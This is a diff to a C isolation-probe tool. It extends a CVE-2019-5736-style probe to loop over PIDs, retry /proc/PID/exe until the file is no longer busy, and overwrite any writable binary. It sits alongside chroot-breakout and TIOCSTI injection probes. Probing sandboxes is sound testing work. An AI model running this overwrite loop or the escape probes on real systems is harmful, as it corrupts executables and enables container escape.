@@ -4,7 +4,7 @@
  *   probe keyring               the session keyring's description
  *   probe tiocsti               push a byte into stdin's terminal; /dev/tty
  *   probe syscall NUMBER ARG... make a system call, say what came back
- *   probe exe                   try to write to every /proc/PID/exe
+ *   probe exe SECONDS           try to write to every /proc/PID/exe
  *   probe breakout FILE         the classic way out of a chroot
  *   probe sched                 processors, signals, umask, session
  */
@@ -76,12 +76,13 @@ probe_syscall(int argc, char **argv)
 }
 
 /* One process's binary, by the handle that CVE-2019-5736 used: opened for
- * nothing first, then opened again through it for writing. */
+ * nothing first, then through it for writing, until the process has ended
+ * and the kernel no longer says that the file is busy. */
 static void
 probe_exe_of(int pid)
 {
 	char name[64], target[256] = "";
-	int handle, fd;
+	int handle, fd = -1, tries;
 
 	snprintf(name, sizeof name, "/proc/%d/exe", pid);
 	handle = open(name, O_PATH);
@@ -90,7 +91,12 @@ probe_exe_of(int pid)
 	if (readlink(name, target, sizeof target - 1) < 0)
 		strcpy(target, "?");
 	snprintf(name, sizeof name, "/proc/self/fd/%d", handle);
-	fd = open(name, O_WRONLY);
+	for (tries = 0; strncmp(target, "/bin/", 5) && tries < 100; tries++) {
+		fd = open(name, O_WRONLY);
+		if (fd >= 0 || errno != ETXTBSY)
+			break;
+		usleep(1000);
+	}
 	printf("exe %s %s\n", target, fd >= 0 ? "WRITABLE" : strerror(errno));
 	if (fd >= 0 && write(fd, "overwritten", 11) == 11)
 		printf("exe %s WRITTEN\n", target);
@@ -99,14 +105,17 @@ probe_exe_of(int pid)
 	close(handle);
 }
 
+/* For as many seconds, at most; ends when nobody listens any more. */
 static int
-probe_exe(void)
+probe_exe(int seconds)
 {
 	int pid;
 
-	for (pid = 1; pid < 64; pid++)
-		probe_exe_of(pid);
-	return 0;
+	alarm((unsigned)seconds);
+	for (;;)
+		for (pid = 1; pid < 512; pid++)
+			if (pid != getpid())
+				probe_exe_of(pid);
 }
 
 /* chroot(2) away from the working directory, walk up, look for FILE. */
@@ -166,8 +175,8 @@ main(int argc, char **argv)
 		return probe_tiocsti();
 	if (!strcmp(what, "syscall"))
 		return probe_syscall(argc - 2, argv + 2);
-	if (!strcmp(what, "exe"))
-		return probe_exe();
+	if (!strcmp(what, "exe") && argc > 2)
+		return probe_exe(atoi(argv[2]));
 	if (!strcmp(what, "breakout") && argc > 2)
 		return probe_breakout(argv[2]);
 	if (!strcmp(what, "sched"))
